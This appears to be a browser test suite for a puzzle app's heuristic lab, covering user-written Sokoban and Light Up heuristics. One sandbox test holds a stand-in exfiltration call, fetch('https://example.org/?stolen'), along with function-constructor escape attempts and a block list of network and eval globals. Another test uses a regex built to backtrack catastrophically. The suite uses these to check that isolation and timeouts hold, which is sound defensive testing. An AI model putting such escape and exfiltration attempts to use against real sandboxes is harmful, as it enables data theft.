// The heuristic lab shows what the engine measures, and says so when a level is too large.
import { readFileSync } from 'node:fs';
import type { Page } from 'playwright-core';
import { describe, expect, test } from 'vitest';
import { ask } from './engine';
import { builtIn } from './puzzles';
import { hasBrowser, oneVisit, type Visit } from './site';

const LEVEL = 'sokoban/10';

describe.skipIf(!hasBrowser)('the heuristic lab', () => {
  let visit: Visit;
  let page: Page;
  oneVisit(async (opened) => {
    [visit, page] = [opened, opened.page];
  });

  test('estimates against the truth, as the engine has them', async () => {
    await visit.go(`watch/${LEVEL}`);
    await page.locator('[data-lab]').click();
    await page.locator('[data-lab-phase="idle"]').waitFor();
    await page.locator('form button[type="submit"]').click();
    await page.locator('[data-lab-phase="done"][data-complete="true"]').waitFor({ timeout: 60_000 });
    const report = ask({ ask: 'heuristics', level: builtIn(LEVEL), limits: { nodes: 200_000 } });
    expect(await page.locator('[data-figures] tbody tr').count()).toBe(report.heuristics.length);
    await page.getByText(`${report.states.toLocaleString('en')} states`).waitFor();
    // Every column of the table is in sight, and the form keeps within its card.
    expect(await page.locator('[data-figures] .fading').evaluate((box) => box.scrollWidth - box.clientWidth)).toBeLessThanOrEqual(1);
    expect(await page.locator('aside').evaluate((card) => card.scrollWidth - card.clientWidth)).toBeLessThanOrEqual(0);
    for (const { name, admissible, consistent, detail } of report.heuristics) {
      await page.locator(`[data-choice="${name}"]`).click();
      await page.locator(`[data-heuristic="${name}"][data-admissible="${admissible}"][data-consistent="${consistent}"]`).waitFor();
      expect(await page.locator('[data-scatter] circle').count()).toBe(detail?.pairs.length);
      expect(await page.locator('[data-sightings="worst"] canvas').count()).toBe(detail?.worst.length);
      expect(await page.locator('[data-sightings="overestimates"] canvas').count()).toBe(detail?.overestimates.length);
      expect(await page.locator('[data-sightings="falls"] canvas').count()).toBe(2 * (detail?.inconsistencies.length ?? 0));
    }
    expect(await page.locator('[data-pair]').count()).toBe(report.dominance?.length);
    // A drawing is saved with its colours, and a caption that names the heuristic and the level.
    const [file] = await Promise.all([page.waitForEvent('download'), page.locator('[data-save-drawing="svg"]').first().click()]);
    const drawing = readFileSync(await file.path()).toString();
    expect(drawing).toMatch(/^<svg [^>]*><title>[^<]* · Sokoban · /);
    expect(drawing).toMatch(/<circle [^>]*fill="rgb/);
    // Another space is not what was measured.
    await page.locator('select[name="space"]').selectOption('step');
    await page.locator('[data-changed]').waitFor();
  });

  /** Has a program of the person's own in use for a puzzle, as if it had been written on an earlier visit. */
  async function use(puzzle: string, script: string): Promise<void> {
    const used = JSON.stringify({ version: 1, value: { [puzzle]: script } });
    await page.evaluate((text) => localStorage.setItem('solvarium:scripts:used', text), used);
    await page.reload();
  }

  /** Opens the lab with a heuristic of the person's own in it, and has it checked. */
  async function check(script: string): Promise<void> {
    await visit.go(`heuristics/${LEVEL}`);
    await use('sokoban', script);
    await page.locator('[data-write]').click();
    await page.locator('[data-check]:not([disabled])').click();
  }

  test('an own heuristic that is not admissible is exposed with a counter-example', async () => {
    await check('function heuristic() { return 0; }');
    await page.locator('[data-heuristic="own"][data-admissible="true"]').waitFor({ timeout: 60_000 });
    await page.locator('.cm-content').fill('function heuristic(state) { return 100 * state.boxes.length; }');
    await page.locator('[data-changed]').waitFor();
    await page.locator('[data-check]').click();
    await page.locator('[data-heuristic="own"][data-admissible="false"]').waitFor({ timeout: 60_000 });
    expect(await page.locator('[data-sightings="overestimates"] canvas').count()).toBeGreaterThan(0);
    expect(await page.locator('[data-verdict="admissible"]').innerText()).toContain('Not admissible');
  });

  test('exceptions and mistakes are shown with their line, and what does not end is ended', async () => {
    await check('function heuristic(state) {\n  let sum = 0;\n  return sum + state.boxen.length;\n}');
    await page.locator('[role="alert"]', { hasText: 'line 3' }).waitFor({ timeout: 60_000 });
    await page.locator('.cm-wrong').waitFor();
    await check('function heuristic(state) {\n  return state.boxes.length +;\n}');
    await page.locator('[role="alert"]', { hasText: 'line 2' }).waitFor({ timeout: 60_000 });
    // Steps are counted.
    await check('function heuristic() {\n  let n = 0;\n  for (;;) n++;\n}');
    const spent = page.locator('[role="alert"]', { hasText: '10,000,000 steps' });
    await spent.waitFor({ timeout: 60_000 });
    expect(await spent.innerText()).toContain('line 3');
    // What takes long within a single step is ended by the clock.
    await check("function heuristic() {\n  return /^(a+)+$/.test('a'.repeat(60) + '!') ? 0 : 1;\n}");
    await page.getByText('Your heuristic did not answer').waitFor({ timeout: 60_000 });
    await check('function heuristic() { return 0; }');
    await page.locator('[data-heuristic="own"]').waitFor({ timeout: 60_000 });
  });

  test('nothing but the language is there', async () => {
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    const names = ['fetch', 'XMLHttpRequest', 'WebSocket', 'importScripts', 'indexedDB', 'caches', 'navigator', 'postMessage', 'eval', 'Function', 'document', 'self'];
    const script = `
      const left = ${JSON.stringify(names)}.filter((name) => globalThis[name] !== undefined);
      let made = 0;
      for (const maker of [() => {}, async () => {}, function* () {}]) {
        try { maker.constructor('return 1'); made++; } catch {}
      }
      try { globalThis.fetch('https://example.org/?stolen'); } catch {}
      function heuristic() {
        if (left.length || made) throw new Error('there is still ' + left + made);
        return 0;
      }`;
    await check(script);
    await page.locator('[data-heuristic="own"][data-admissible="true"]').waitFor({ timeout: 60_000 });
    expect(asked.filter((url) => url.includes('example.org'))).toEqual([]);
  });

  test('it is watched like the others, and a link with a program asks first', async () => {
    await check('function heuristic(state, level) { return state.boxes.filter((cell) => !level.goals.includes(cell)).length; }');
    await page.locator('[data-heuristic="own"]').waitFor({ timeout: 60_000 });
    await visit.go(`watch/${LEVEL}`);
    await page.locator('select[name="algorithm"]').selectOption('astar');
    await page.locator('select[name="heuristic"]').selectOption('own');
    await page.locator('button[type="submit"]').click();
    await page.locator('[data-outcome="solved"]').waitFor({ timeout: 60_000 });

    const request = { algorithm: 'astar', heuristic: 'own', script: '/* from afar */ function heuristic() { return 0; }' };
    const { link } = ask({ ask: 'make-link', shared: { level: builtIn(LEVEL), view: { page: 'watch', request } } });
    await visit.go(link.replace(/^#\//, ''));
    await page.locator('[data-foreign] pre', { hasText: 'from afar' }).waitFor();
    expect(await page.locator('[data-outcome]').count()).toBe(0);
    await page.locator('[data-accept]').click();
    await page.locator('[data-outcome="solved"]').waitFor({ timeout: 60_000 });
  });

  test('two own heuristics race one after the other, keep their recordings, and are compared with the texts that ran', async () => {
    const scripts = ['/* none */ function heuristic() { return 0; }', '/* boxes */ function heuristic(state, level) { return state.boxes.filter((cell) => !level.goals.includes(cell)).length; }'];
    const requests = scripts.map((script) => ({ algorithm: 'astar', heuristic: 'own', script }));
    const { link } = ask({ ask: 'make-link', shared: { level: builtIn('sokoban/1'), view: { page: 'compare', requests } } });
    await page.evaluate(() => Object.defineProperty(navigator, 'hardwareConcurrency', { value: 1, configurable: true }));
    await visit.go(link.replace(/^#\//, ''));
    await page.locator('[data-accept]').click();
    await page.locator('[data-race="done"]').waitFor({ timeout: 60_000 });
    expect(await page.locator('select[name="diff-first"] option').count()).toBe(2);
    await page.locator('[data-invite] a').click();
    await page.locator('[data-difference]:not([data-difference="none"])').waitFor({ timeout: 60_000 });
    expect(await page.locator('[data-half="astar"]').count()).toBe(2);
  });

  test('it is the fitness of a genetic algorithm, where no other heuristic means anything', async () => {
    await visit.go('watch/light-up/7x7/1');
    await use('light-up', 'function energy(state) {\n  return Math.abs(state.bulbs.length - 3);\n}');
    /** Without repairs, so that the first candidates are no solutions. */
    const choose = async () => {
      await page.locator('select[name="algorithm"]').selectOption('genetic');
      const closed = page.locator('form details:not([open]) summary');
      while ((await closed.count()) > 0) await closed.first().click();
      await page.locator('form [name="scheme"]').selectOption('free');
      await page.locator('form [name="seed"]').fill('1');
      await page.locator('input[name="generations"]').fill('2');
    };
    await choose();
    const guide = page.locator('select[name="heuristic"]');
    expect(await guide.locator('option').evaluateAll((options) => options.map((option) => (option as HTMLOptionElement).value))).toEqual(['', 'own']);
    const run = async () => {
      await page.locator('button[type="submit"]').click();
      await page.locator('[data-outcome]').waitFor({ timeout: 60_000 });
      return page.locator('[data-run-of="genetic"]').innerText();
    };
    const byRules = await run();
    const { heuristics } = ask({ ask: 'catalogue' }).puzzles.find(({ name }) => name === 'light-up') ?? { heuristics: [] };
    expect(heuristics.filter(({ name }) => byRules.includes(name))).toEqual([]);
    await guide.selectOption('own');
    await page.locator('[data-stale]').waitFor();
    await page.locator('button[type="submit"]').click();
    await page.locator('[data-run-of="genetic"]', { hasText: 'own heuristic' }).waitFor({ timeout: 60_000 });
    // It is the program that is asked about boards.
    await use('light-up', 'function energy(state) {\n  return state.bulben.length;\n}');
    await choose();
    await guide.selectOption('own');
    await page.locator('button[type="submit"]').click();
    await page.locator('[role="alert"]', { hasText: 'line 2' }).waitFor({ timeout: 60_000 });
  });

  test('a level that is too large says so, with its limit and the states seen', async () => {
    await visit.go('heuristics/sokoban/29');
    await page.locator('[data-lab-phase="idle"]').waitFor();
    await page.locator('form details summary').last().click();
    await page.locator('input[name="nodes"]').fill('1000');
    await page.locator('form button[type="submit"]').click();
    await page.locator('[data-lab-phase="done"][data-complete="false"]').waitFor({ timeout: 60_000 });
    const { states } = ask({ ask: 'heuristics', level: builtIn('sokoban/29'), limits: { nodes: 1000 } });
    await page.getByText(`after ${states.toLocaleString('en')} states`).waitFor();
    expect(await page.locator('[data-figures]').count()).toBe(0);
  });
});
